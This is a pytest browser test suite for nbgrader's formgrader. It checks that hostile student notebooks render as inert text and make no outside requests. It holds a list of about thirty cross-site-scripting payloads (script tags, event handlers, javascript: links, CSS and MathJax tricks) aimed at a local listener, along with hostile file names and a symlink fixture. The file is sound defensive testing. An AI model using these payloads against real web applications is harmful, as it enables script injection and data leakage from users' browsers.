"""formgrader in a real browser: a person sees our submissions and marks them."""

import http.server
import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from contextlib import contextmanager
from pathlib import Path

import pytest

from autograder import batch, intake
from autograder.entry import entry
from autograder.gradebook import Gradebook
from autograder.marks import written_marks
from autograder.model import Verdict
from tests import minicourse
from tests.graded import graded, with_answer

CHROMIUM = shutil.which("chromium")
ROOT = Path(__file__).resolve().parents[2]
QUIET = (
    "--headless=new --no-sandbox --disable-gpu --disable-quic --no-first-run"
    " --disable-background-networking --disable-component-update --disable-sync"
)
HOSTILE = (
    "Nothing **to** add. <script>alert(1)</script>\n\n# total\n"
    "[more](javascript:alert(1)) <img src=x onerror=alert(1)>"
)

pytestmark = [
    pytest.mark.browser,
    pytest.mark.nbgrader,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium"),
    pytest.mark.filterwarnings("ignore::DeprecationWarning"),
    pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),
]


@pytest.fixture
def course(tmp_path):
    """Give the small course with two recorded submissions, one of them hostile."""
    assignment = minicourse.write_course(tmp_path)
    shutil.copy(ROOT / "nbgrader_config.py", tmp_path)
    for student, submitted in (("ann", with_answer(HOSTILE)), ("bob", None)):
        path = minicourse.hand_in(assignment, student, submitted or minicourse.solved())
        path.with_name("timestamp.txt").write_text("2026-02-27 10:00:00 UTC")
    with Gradebook(assignment) as gradebook:
        gradebook.record(
            entry(
                assignment,
                graded(assignment, "ann", with_answer(HOSTILE), total=Verdict.WRONG),
            ),
            entry(assignment, graded(assignment, "bob")),
        )
    return assignment


@pytest.fixture
def page(course):
    """Give a browser's page whose address begins at formgrader."""
    playwright = pytest.importorskip("playwright.sync_api")
    with (
        server(course.course.root) as (address, token),
        playwright.sync_playwright() as p,
    ):
        browser = p.chromium.launch(executable_path=CHROMIUM, args=QUIET.split())
        page = browser.new_page(
            base_url=address, viewport={"width": 1200, "height": 900}
        )
        page.route(lambda url: not url.startswith(address), lambda one: one.abort())
        page.goto(f"/formgrader?token={token}")
        yield page
        browser.close()


@contextmanager
def server(root):
    """Run a Jupyter server with formgrader on loopback."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    token, address = secrets.token_hex(16), f"http://127.0.0.1:{port}"
    scripts = Path(sys.executable).parent
    environment = {
        "PATH": f"{scripts}{os.pathsep}{os.environ['PATH']}",
        "HOME": str(root),
        "PYTHONPATH": str(ROOT),
        "JUPYTER_TOKEN": token,
        "JUPYTER_RUNTIME_DIR": str(root / ".runtime"),
    }
    command = [
        scripts / "jupyter-server",
        "--no-browser",
        "--allow-root",
        "--ip=127.0.0.1",
        f"--port={port}",
        "--ServerApp.port_retries=0",
    ]
    with (root / "server.log").open("w") as log:
        process = subprocess.Popen(
            command, cwd=root, env=environment, stdout=log, stderr=log
        )
        try:
            _wait_for(f"{address}/api?token={token}", process)
            yield address, token
        finally:
            process.terminate()
            process.wait(timeout=20)


def _wait_for(url, process):
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and process.poll() is None:
        try:
            urllib.request.urlopen(url, timeout=5).close()
        except (urllib.error.URLError, OSError):
            time.sleep(0.2)
        else:
            return
    pytest.fail("the Jupyter server did not start")


def open_submission(page, course, number):
    page.goto(f"/formgrader/gradebook/{course.name}/{course.name}")
    page.get_by_text(f"Submission #{number}", exact=True).click()
    page.locator("input.score").first.wait_for()
    page.wait_for_function("document.querySelector('#mean').placeholder != ''")


def box(page, name):
    return page.locator(f"input.score#{name}")


def find_submission(page, course, answer):
    """Open the submission whose page holds this text: formgrader hides names."""
    for number in (1, 2):
        open_submission(page, course, number)
        if answer in page.content():
            return
    pytest.fail(f"no submission shows {answer!r}")


def test_a_mark_is_kept_when_a_submission_is_graded_after_marking(page, course):
    """A person sees the points, marks a text, and grading again keeps the mark."""
    find_submission(page, course, "Nothing **to** add.")
    assert box(page, "total").get_attribute("placeholder") == str(4 / 3)
    assert box(page, "mean").get_attribute("placeholder") == "2"
    assert "needs_manual_grade" in box(page, "why").get_attribute("class")

    box(page, "why").fill("1.5")
    with page.expect_response(lambda one: one.request.method == "PUT") as saved:
        box(page, "why").blur()
    assert saved.value.ok
    with Gradebook(course) as gradebook:
        gradebook.record(entry(course, graded(course, "ann", with_answer(HOSTILE))))
    page.reload()
    page.wait_for_function("document.querySelector('#why').value != ''")

    assert box(page, "why").input_value() == "1.5"
    assert box(page, "total").get_attribute("placeholder") == "4"
    assert "needs_manual_grade" not in box(page, "why").get_attribute("class")
    assert written_marks(course) == {"ann": {"why": 1.5}, "bob": {"why": 0.0}}


def test_nothing_runs_when_an_answer_is_hostile(page, course):
    """A student's HTML, links and headings are text on the page."""
    dialogs = []
    page.on("dialog", lambda one: (dialogs.append(one.message), one.dismiss()))

    find_submission(page, course, "Nothing **to** add.")

    answer = page.locator(".nbgrader_cell", has=box(page, "why"))
    assert HOSTILE in answer.locator(".text_cell_render").inner_text()
    assert (
        answer.locator(".text_cell_render").locator("a, img, script, h1").count() == 0
    )
    assert page.locator("[id=total]").count() == 1
    assert dialogs == []


def test_submissions_are_listed_when_they_were_recorded(page, course):
    """Manage Assignments counts them, Manage Submissions shows what they wait for."""
    page.goto("/formgrader/manage_assignments")
    page.get_by_role("link", name="2", exact=True).click()
    page.get_by_text("needs manual grading").wait_for()

    rows = [row.inner_text().split("\t") for row in page.locator("tbody tr").all()]

    assert [(row[1], row[3].strip(), row[4]) for row in rows] == [
        ("ann", "needs manual grading", "4.33 / 8.5"),
        ("bob", "graded", "7 / 8.5"),
    ]


# ------------------------------------------------------------------ a hostile notebook

RAN = "document.title='ran'"
EVIL = "zoë o'brien, +1"


def payloads(outside):
    """Give what runs, loads, leaves or hides a page that lets it through."""
    return [
        f"<script>{RAN}</script>",
        f"<ScRiPt src={outside}/script></sCrIpT>",
        f"<img src=x onerror={RAN}>",
        f"<img src={outside}/picture>",
        f"<svg onload={RAN}><script>{RAN}</script><animate onbegin={RAN}></svg>",
        f"<svg><use href='data:image/svg+xml,<svg onload={RAN}>#x'></svg>",
        f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
        f"<iframe src={outside}/frame></iframe>",
        f"<iframe src=javascript:parent.{RAN}></iframe>",
        f"<meta http-equiv=refresh content='0;url={outside}/left'>",
        f"<link rel=stylesheet href={outside}/sheet><base href={outside}>",
        f"<style>@import '{outside}/style'; body {{ display: none }}</style>",
        f"<div style='position:fixed;inset:0;background:url({outside}/css)'>x</div>",
        f"<details open ontoggle={RAN}>x</details><input autofocus onfocus={RAN}>",
        f"<video><source onerror={RAN}></video><object data={outside}/o></object>",
        f"<form action={outside}/form><button formaction=javascript:{RAN}>x</button>",
        f"<math><maction xlink:href=javascript:{RAN}>x</maction></math>",
        f"<a href=javascript:{RAN}>x</a> <a href={outside}/link ping={outside}/p>x</a>",
        f"[x](javascript:{RAN}) [x](data:text/html,<script>{RAN}</script>)",
        f"![x]({outside}/markdown) ![x](attachment:a.svg) <{outside}/auto>",
        f"[r]\n\n[r]: javascript:{RAN}",
        f"$\\href{{javascript:{RAN}}}{{x}}$ $$\\require{{html}} \\style{{x}}{{y}}$$",
        f"$\\unicode{{x}}$ $\\mmlToken{{mi}}[href='javascript:{RAN}']{{x}}$",
        f"```mermaid\ngraph TD; A[<img src=x onerror={RAN}>]\n```",
        f"</textarea></pre></script><script>{RAN}</script> ]]> --> <!--",
        f"&lt;script&gt;{RAN}&lt;/script&gt; &#60;script&#62;",
        "<h1 id=total>total</h1>\n\n# total\n\ntotal\n=====\n<div id=why>why</div>",
        f"\x1b]8;;javascript:{RAN}\x1b\\\\x\x1b]8;;\x1b\\\\ \u202e txet",
    ]


DISPLAYS = """\
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
class Rich:
    def _repr_html_(self):
        return text
    def _repr_mimebundle_(self, **_):
        return {kind: text for kind in KINDS}
KINDS = ["text/html", "text/markdown", "image/svg+xml", "application/javascript"]
for text in TEXTS:
    print(text)
    for kind in (HTML, Javascript, Latex, Markdown):
        display(kind(text))
    display(Rich())
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="TITLE"/>'))
display({"text/html": TEXTS[0]}, raw=True)
raise ValueError("".join(TEXTS))
"""


def hostile(outside):
    """Give a notebook with every payload in prose, code, outputs, metadata, names."""
    texts = payloads(outside)
    made = with_answer("\n\n".join(texts))
    made["cells"] += [minicourse.markdown(source=text) for text in texts]
    made["cells"] += [{**made["cells"][-1], "cell_type": "raw"}]
    for one in made["cells"]:
        one["attachments"] = {"a.svg": {"image/svg+xml": texts[4]}}
        one["metadata"] |= {"tags": texts, "name": texts[0], "jupyter": {"x": texts}}
    shows = DISPLAYS.replace("TITLE", RAN).replace("TEXTS", repr(texts))
    made["cells"] += [minicourse.cell(source=shows)]
    made["cells"] += [minicourse.cell(source="\n".join(f"# {it}" for it in texts))]
    made["metadata"] = {"title": texts[0], "kernelspec": {"language": texts[2]}}
    return made


@pytest.fixture
def outside():
    """Give the address of a server that should never be asked, and what it was."""
    asked = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the server asks for this name

        def log_message(self, *_):
            pass

    listener = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    thread = threading.Thread(target=listener.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{listener.server_port}", asked
    listener.shutdown()
    listener.server_close()
    thread.join(10)


@pytest.fixture
def course_of_evil(tmp_path, outside):
    """Give the small course with one hostile submission, graded as ever."""
    assignment = minicourse.write_course(tmp_path)
    shutil.copy(ROOT / "nbgrader_config.py", tmp_path)
    path = minicourse.hand_in(assignment, EVIL, hostile(outside[0]))
    path.rename(path.with_name(f"<img src=x onerror={RAN}>.ipynb"))
    path.with_name("timestamp.txt").write_text(f"<script>{RAN}</script>")
    done = batch.grade_all(assignment, intake.students(assignment))
    assert done.reports[0].score == 6.0
    return assignment


@contextmanager
def browser_page(address):
    """Open a page that notes what it tried to load from anywhere else."""
    playwright = pytest.importorskip("playwright.sync_api")
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=QUIET.split())
        page = browser.new_page(viewport={"width": 1200, "height": 900})
        page.tried = []
        page.dialogs = []
        page.on("request", lambda one: page.tried.append(one.url))
        page.on("dialog", lambda one: (page.dialogs.append(one), one.dismiss()))
        page.route(
            lambda url: not url.startswith(("http://127.0.0.1", "file:", "data:")),
            lambda one: one.abort(),
        )
        yield page
        browser.close()


def touch(page, area):
    """Click what can be clicked in an area, and move over all of it."""
    page.mouse.move(5, 5)
    for one in page.locator(f"{area} :is(a, button, summary, input)").all():
        if one.is_visible():
            one.click(timeout=2000, no_wait_after=True)


def is_quiet(page, asked, outside):
    """Tell whether nothing of a payload ran, loaded, or left the page."""
    page.wait_for_timeout(300)
    alive = [url for url in page.tried if url.startswith(outside)]
    return (page.title() != "ran", alive, asked, page.dialogs) == (True, [], [], [])


@pytest.mark.sandbox
def test_nothing_runs_anywhere_when_a_whole_notebook_is_hostile(
    course_of_evil, outside
):
    """On every page that formgrader has of it, and on the student's own page."""
    address, asked = outside
    root = course_of_evil.course.root
    with server(root) as (base, token), browser_page(base) as page:
        page.goto(f"{base}/formgrader?token={token}")
        for place, text in (
            ("manage_submissions/sums", EVIL),
            ("manage_students", EVIL),
            (f"manage_students/{EVIL}", "sums"),
            (f"manage_students/{EVIL}/sums", "sums"),
            ("gradebook/sums/sums", "Submission #1"),
        ):
            page.goto(f"{base}/formgrader/{place}")
            page.get_by_text(text).first.wait_for()
            assert is_quiet(page, asked, address), place
        page.get_by_text("Submission #1", exact=True).click()
        page.locator("input.score").first.wait_for()
        own = page.locator(".text_cell_render div[style^='white-space']")
        assert own.count() >= len(payloads(address))
        assert own.locator("*").count() == 0
        assert RAN in own.first.inner_text()
        assert page.locator("[id=total], [id=why]").count() == 2
        touch(page, ".text_cell_render, .output_area")
        assert is_quiet(page, asked, address)
        assert page.url.startswith(base)

        page.goto((root / "feedback" / EVIL / "sums/sums.html").as_uri())
        assert page.get_by_role("heading", name="Sums").is_visible()
        touch(page, "body")
        assert is_quiet(page, asked, address)


@pytest.mark.sandbox
def test_the_marks_show_when_a_notebook_is_let_through(tmp_path, outside):
    """A page that takes the payloads as they are runs them: the test can fail."""
    address, asked = outside
    path = tmp_path / "page.html"
    path.write_text("".join(payloads(address)[:3]))
    with browser_page(address) as page:
        page.goto(path.as_uri())

        assert not is_quiet(page, asked, address)


@pytest.mark.sandbox
def test_nbgraders_own_pages_are_clean_when_a_notebook_is_hostile(
    course_of_evil, outside
):
    """`nbgrader autograde` and `generate_feedback` leave nothing of it to open."""
    address, asked = outside
    root = course_of_evil.course.root
    handed_in = course_of_evil.course.submitted / EVIL / "sums"
    odd = next(handed_in.glob("*.ipynb"))
    odd.rename(handed_in / "sums.ipynb")
    shutil.copy(handed_in / "sums.ipynb", handed_in / "evil.ipynb")
    for name in ("evil.html", "custom.css", "timestamp.txt"):
        (handed_in / name).write_text(f"<script>{RAN}</script>")
    (handed_in / "secret.txt").symlink_to(course_of_evil.reference)
    (handed_in / "sub").mkdir()
    (handed_in / "sub/evil.js").write_text(RAN)
    scripts = Path(sys.executable).parent
    environment = {
        "PATH": f"{scripts}{os.pathsep}{os.environ['PATH']}",
        "HOME": str(root),
        "PYTHONPATH": str(ROOT),
    }
    intake.read(course_of_evil, EVIL)
    for verb in ("autograde", "generate_feedback"):
        command = [scripts / "nbgrader", verb, "sums", "--student", EVIL, "--force"]
        subprocess.run(command, cwd=root, env=environment, check=True, timeout=120)

    autograded = root / "autograded" / EVIL / "sums"
    feedback = root / "feedback" / EVIL / "sums"
    assert [one.name for one in autograded.iterdir()] == ["sums.ipynb"]
    assert [one.name for one in feedback.iterdir()] == ["sums.html"]
    outputs = json.loads((autograded / "sums.ipynb").read_text())["cells"]
    kinds = {
        kind
        for one in outputs
        for output in one.get("outputs", ())
        for kind in output.get("data", ())
    }
    assert kinds <= {"text/plain", "image/png"}
    with browser_page(address) as page:
        page.goto((feedback / "sums.html").as_uri())
        assert is_quiet(page, asked, address)
